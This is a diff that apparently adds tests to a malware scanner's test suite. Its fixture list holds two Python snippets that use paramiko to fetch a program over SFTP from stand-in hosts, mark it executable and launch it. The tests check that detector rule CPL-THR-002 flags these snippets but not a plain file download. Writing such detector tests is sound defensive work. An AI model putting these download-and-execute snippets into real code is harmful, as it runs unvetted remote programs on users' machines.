@@ -604,3 +604,38 @@ def test_files_other_programs_run_are_found_with_the_prefilter_too(
 )
 def test_configuration_and_hooks_that_download_nothing_are_not_threats(source: str) -> None:
     assert not danger(source)
+
+
+# -- blind16: a program fetched over SFTP and started ------------------------------------------
+
+SFTP_RUNS = [
+    "import os, subprocess, tempfile, paramiko\n"
+    "t = paramiko.Transport(('192.0.2.44', 22))\nt.connect(username='u', password='p')\n"
+    "s = paramiko.SFTPClient.from_transport(t)\n"
+    "dst = os.path.join(tempfile.gettempdir(), 'helper')\n"
+    "s.get('/srv/bin/helper', dst)\nos.chmod(dst, 0o755)\nsubprocess.Popen([dst])\n",
+    "import os, subprocess, paramiko\np = os.path.expanduser('~/.cache/agent')\n"
+    "c = paramiko.SSHClient()\nc.connect('sftp.x.example', username='u')\n"
+    "c.open_sftp().get('/bin/agent', p)\nos.chmod(p, 0o700)\nsubprocess.Popen([p])\n",
+]
+
+
+@pytest.mark.parametrize("source", SFTP_RUNS)
+def test_a_program_fetched_over_sftp_and_started_is_a_download_run(source: str) -> None:
+    assert "CPL-THR-002" in danger(source)
+
+
+@pytest.mark.parametrize("source", SFTP_RUNS)
+def test_a_program_fetched_over_sftp_is_found_with_the_prefilter_too(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")
+
+
+def test_a_file_fetched_over_sftp_and_read_is_not_a_download_run() -> None:
+    source = (
+        "import paramiko\nc = paramiko.SSHClient()\nc.connect('backup.example.org')\n"
+        "s = c.open_sftp()\ns.get('/var/backups/db.sql', 'db.sql')\n"
+        "print(open('db.sql').read()[:80])\n"
+    )
+    assert "CPL-THR-002" not in danger(source)
